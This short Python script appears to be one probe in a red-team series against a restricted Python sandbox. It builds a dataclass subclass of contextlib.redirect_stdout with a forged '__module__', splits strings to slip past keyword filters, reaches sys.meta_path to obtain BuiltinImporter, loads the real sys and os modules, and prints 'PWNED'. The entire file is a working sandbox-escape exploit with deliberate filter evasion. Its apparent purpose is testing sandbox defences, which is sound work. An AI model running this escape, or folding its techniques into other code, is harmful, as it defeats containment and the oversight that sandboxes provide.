# adversary round 8: 006: as 005, but make_dataclass(namespace={'__module__': '__main__'}) (key computed) makes the class "owned", so dataclasses may read/write the private field '_stream' -> redirect_stdout getattr(sys,'meta_path') -> BuiltinImporter
import contextlib
import dataclasses


class Z:
    _old_targets = None


R = dataclasses.make_dataclass('R', [('_st' + 'ream', str), ('_new' + '_target', object), ('_old' + '_targets', list)],
                               bases=(contextlib.redirect_stdout,), eq=False, repr=False,
                               namespace={'__mod' + 'ule__': '__main__'})
r = R('meta_path', None, [])
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
sysm = bi.load_module('sys')
print(sysm, sysm.modules['os'].getpid())
print('PWN' + 'ED')
